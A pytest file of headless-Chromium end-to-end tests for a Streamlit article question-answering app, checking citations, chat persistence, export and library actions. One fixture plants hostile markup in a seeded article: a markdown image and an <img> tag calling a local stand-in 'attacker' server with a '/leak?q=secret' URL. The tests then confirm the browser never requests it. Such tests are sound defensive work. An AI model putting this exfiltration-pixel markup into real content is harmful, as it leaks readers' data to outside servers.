"""End to end in a real headless Chromium: the app as a reader meets it, on 127.0.0.1.

`make test` installs Debian's chromium when it is missing; Playwright drives it (its own browser
download is never used). The test skips, saying why, only when no Chromium can be had.
"""

import os
import shutil
import subprocess
import sys
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from conftest import ROOT, SEEDS, free_port, wait_for_http

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
CHROMIUM_ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
                 "--disable-component-update", "--disable-sync", "--no-first-run"]
SCREENSHOTS = ROOT / "build" / "browser"

pytestmark = pytest.mark.skipif(not CHROMIUM, reason="no Chromium: `make test` installs Debian's chromium; "
                                                     "apt-get could not here")


class _Attacker(BaseHTTPRequestHandler):
    """Stands in for a tracking server an article points at: it must never hear from the browser."""
    hits: list[str] = []

    def do_GET(self):
        _Attacker.hits.append(self.path)
        self.send_response(200)
        self.end_headers()

    def log_message(self, *args):
        pass


@pytest.fixture
def attacker():
    server = ThreadingHTTPServer(("127.0.0.1", free_port()), _Attacker)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    _Attacker.hits.clear()
    yield server.server_address[1]
    server.shutdown()


@pytest.fixture
def app_url(tmp_path, attacker):
    corpus = tmp_path / "corpus"
    shutil.copytree(SEEDS, corpus)
    (corpus / "venue.txt").write_text(
        "Summit venue report\n\nHungarian officials inspected the Budapest summit venue on Monday and found it "
        f"ready. The page showed ![pixel](http://127.0.0.1:{attacker}/leak?q=secret) "
        f'<img src="http://127.0.0.1:{attacker}/img"> :red[ALERT] as its banner. '
        "Officials said the venue inspection was completed before the cancellation was announced.\n")
    port = free_port()
    env = {**os.environ, "RAG_DATA_DIR": str(tmp_path / "data"), "RAG_CORPUS_DIR": str(corpus),
           "HF_HUB_OFFLINE": "1"}
    log = (tmp_path / "streamlit.log").open("w")
    proc = subprocess.Popen([sys.executable, "-m", "streamlit", "run", str(ROOT / "app.py"),
                             "--server.address", "127.0.0.1", "--server.port", str(port),
                             "--server.headless", "true", "--browser.gatherUsageStats", "false"],
                            env=env, stdout=log, stderr=subprocess.STDOUT, cwd=ROOT)
    try:
        wait_for_http(f"http://127.0.0.1:{port}/_stcore/health", timeout=60)
        yield f"http://127.0.0.1:{port}"
    finally:
        proc.terminate()
        proc.wait(timeout=20)


def test_reader_asks_checks_a_citation_and_nothing_hostile_loads(app_url, attacker):
    from playwright.sync_api import expect, sync_playwright

    SCREENSHOTS.mkdir(parents=True, exist_ok=True)
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        page = browser.new_page(viewport={"width": 1280, "height": 1400})
        started = time.perf_counter()
        page.goto(app_url)
        chat = page.get_by_placeholder("Ask about the articles", exact=False)
        chat.wait_for(timeout=180_000)  # a first start: the corpus is indexed while the page shows progress
        first_start = time.perf_counter() - started

        started = time.perf_counter()
        chat.fill("Who is Liana Fix?")
        chat.press("Enter")
        marker = page.locator('a[href="#sources-0"]:not([aria-label])').first
        marker.wait_for(timeout=60_000)
        answered = time.perf_counter() - started
        assert "[1]" in marker.inner_text()
        expect(page.get_by_text("Council on Foreign Relations", exact=False).first).to_be_visible()
        # The source entry under the answer, one line (waited for: it can render a moment after the marker).
        entry = page.locator("[data-testid='stExpander']").filter(has_text="[1]").first
        expect(entry).to_be_visible()
        assert "Liana Fix" in (marker.get_attribute("title") or "")  # hovering [1] shows its quote
        marker.click()
        page.wait_for_function("() => location.hash === '#sources-0'", timeout=10_000)
        expect(page.locator("#sources-0")).to_be_in_viewport()
        entry.locator("summary").click()  # open it: the paragraph, the cited sentence highlighted
        expect(entry.locator("[data-testid='stMarkdownContainer'] span").filter(has_text="Liana Fix").first
               ).to_be_visible()
        page.screenshot(path=str(SCREENSHOTS / "answer.png"), full_page=True)
        page.set_viewport_size({"width": 390, "height": 844})  # a phone
        page.wait_for_timeout(500)
        box = entry.bounding_box()
        assert box and box["x"] >= 0 and box["x"] + box["width"] <= 390, box
        page.screenshot(path=str(SCREENSHOTS / "phone.png"), full_page=False)
        page.set_viewport_size({"width": 1280, "height": 1400})

        page.reload()  # the chat is saved and its address names it: a reload shows it again
        expect(page.locator('a[href="#sources-0"]:not([aria-label])').first).to_be_visible(timeout=60_000)
        chat = page.get_by_placeholder("Ask about the articles", exact=False)

        started = time.perf_counter()
        chat.fill("Did Hungarian officials inspect the Budapest summit venue?")
        chat.press("Enter")
        # A second question while the first is being answered (sent once the first shows): queued, not lost
        expect(page.get_by_text("Did Hungarian officials inspect the Budapest summit venue?", exact=True)
               ).to_be_visible(timeout=30_000)
        chat.fill("Which Russian oil companies were sanctioned?")
        chat.press("Enter")
        page.locator('a[href="#sources-2"]:not([aria-label])').first.wait_for(timeout=60_000)
        warm = time.perf_counter() - started
        # The queued question's answer (its anchor depends on whether the first answer was saved first)
        expect(page.locator("[data-testid='stChatMessage']").filter(has_text="Rosneft").last).to_be_visible(
            timeout=60_000)
        assert page.get_by_text("Which Russian oil companies were sanctioned?", exact=True).count() >= 1
        # Open the venue article's source entry: its paragraph carries the hostile markup.
        entries = page.locator("[data-testid='stChatMessage'] [data-testid='stExpander']")
        venue = entries.filter(has_text="Summit venue report")
        assert venue.count(), [entries.nth(i).inner_text()[:80] for i in range(entries.count())]
        venue.first.locator("summary").click()
        page.wait_for_timeout(1500)  # give any injected image time to be requested
        body, text = page.content(), page.inner_text("body").replace("\u2060", "")  # joiners keep URLs unlinked
        page.screenshot(path=str(SCREENSHOTS / "hostile.png"), full_page=True)
        browser.close()
    assert f"![pixel](http://127.0.0.1:{attacker}/leak?q=secret)" in text, "the hostile markup is shown as text (in the quote's paragraph: a sentence with a link is never quoted)"
    assert ":red[ALERT]" in text and "<img src=" in text
    assert f'src="http://127.0.0.1:{attacker}' not in body and f'href="http://127.0.0.1:{attacker}' not in body
    assert _Attacker.hits == [], "an article's image or link made the browser call out"
    timings = f"first start (index + model) {first_start:.1f} s, first answer {answered:.1f} s, next {warm:.1f} s"
    print(f"\nbrowser: {timings}")
    Path(SCREENSHOTS / "timings.txt").write_text(timings + "\n")


def test_api_docs_render_with_the_network_cut_off(rag_server, tmp_path):
    """`rag serve`'s /docs (Swagger UI) in a browser that may reach nothing but the server itself."""
    from playwright.sync_api import expect, sync_playwright

    server = rag_server(tmp_path / "data")  # an empty index is enough: the page documents the API
    refused: list[str] = []

    def only_loopback(route):
        if route.request.url.startswith(server.url):
            route.continue_()
        else:
            refused.append(route.request.url)
            route.abort()

    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        page = browser.new_page()
        page.route("**/*", only_loopback)
        page.goto(f"{server.url}/docs")
        expect(page.locator(".opblock-summary-path", has_text="/retrieve").first).to_be_visible(timeout=20_000)
        browser.close()
    assert refused == []


def test_library_export_and_chat_list_in_the_browser(app_url):
    """The sidebar as a reader uses it: export a chat, read an article, remove one after confirming."""
    from playwright.sync_api import expect, sync_playwright

    SCREENSHOTS.mkdir(parents=True, exist_ok=True)
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        page = browser.new_page(viewport={"width": 1280, "height": 1000}, accept_downloads=True)
        page.goto(app_url)
        chat = page.get_by_placeholder("Ask about the articles", exact=False)
        chat.wait_for(timeout=180_000)
        chat.fill("Who is Liana Fix?")
        chat.press("Enter")
        page.locator('a[href="#sources-0"]:not([aria-label])').first.wait_for(timeout=60_000)
        sidebar = page.locator("[data-testid='stSidebar']")
        # The answer's rerun re-renders the sidebar: a click on a download button it is replacing starts no
        # download (seen once under the full suite's load), so wait until the script has finished running.
        page.locator("[data-testid='stStatusWidget']").wait_for(state="hidden", timeout=60_000)

        sidebar.get_by_text("This chat", exact=True).click()
        with page.expect_download() as download:
            sidebar.get_by_role("button", name="Export as Markdown").click()
        exported = Path(download.value.path()).read_text(encoding="utf-8")
        assert "## Who is Liana Fix\\?" in exported and "Council on Foreign Relations" in exported
        assert "Sources:" in exported

        sidebar.get_by_text("Browse the 6 articles", exact=True).click()
        sidebar.get_by_role("button", name="Read").first.click()
        dialog = page.get_by_role("dialog")
        expect(dialog).to_be_visible(timeout=20_000)
        expect(dialog.get_by_text("Trump", exact=False).first).to_be_visible()
        page.keyboard.press("Escape")
        expect(dialog).to_be_hidden(timeout=10_000)
        # Escape reruns the script (on_dismiss); wait for that rerun to settle so the next click is the
        # reader's next step, not a race with it (the app itself keeps a request that lands mid-rerun).
        expect(page.locator("[data-stale='true']")).to_have_count(0, timeout=20_000)
        page.screenshot(path=str(SCREENSHOTS / "library.png"), full_page=True)

        sidebar.get_by_role("button", name="Remove").last.click()  # venue.txt: the last article by path
        expect(dialog.get_by_text("venue.txt", exact=False).first).to_be_visible(timeout=20_000)
        dialog.get_by_role("button", name="Remove").click()
        expect(sidebar.get_by_text("5 documents", exact=False)).to_be_visible(timeout=60_000)
        expect(sidebar.get_by_text("venue.txt removed", exact=False)).to_be_visible()
        browser.close()
